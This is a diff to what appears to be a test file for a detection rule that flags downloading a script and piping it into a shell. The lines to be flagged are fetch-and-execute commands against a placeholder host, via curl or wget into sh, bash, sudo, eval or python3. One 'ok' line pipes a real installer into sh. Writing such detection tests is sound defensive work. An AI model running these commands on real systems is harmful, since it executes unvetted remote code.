@@ -1,9 +1,18 @@
-#!/bin/sh
 # ruleid: remote-code-pipe-to-shell
-curl -fsSL https://files.example/install | sh
+curl https://a.invalid/x | bash
 # ruleid: remote-code-pipe-to-shell
-wget -qO- https://files.example/install | bash -s -- --yes
+wget -qO- https://a.invalid/x | sudo sh -s -- -y
+# ruleid: remote-code-pipe-to-shell
+bash <(curl -fsSL https://a.invalid/x)
+# ruleid: remote-code-pipe-to-shell
+eval "$(curl -fsSL https://a.invalid/x)"
+# ruleid: remote-code-pipe-to-shell
+curl -s https://a.invalid/x.py | python3 -
 # ok: remote-code-pipe-to-shell
-curl -fsSL https://files.example/data.json -o data.json
+curl -fsSL https://a.invalid/x.json | jq .name
 # ok: remote-code-pipe-to-shell
-echo "curl https://files.example/install | sh"
+curl -LsSf https://astral.sh/uv/install.sh | sh
+# ok: remote-code-pipe-to-shell
+curl -s https://a.invalid/x.json | python3 -m json.tool
+# ok: remote-code-pipe-to-shell
+# curl https://a.invalid/x | bash
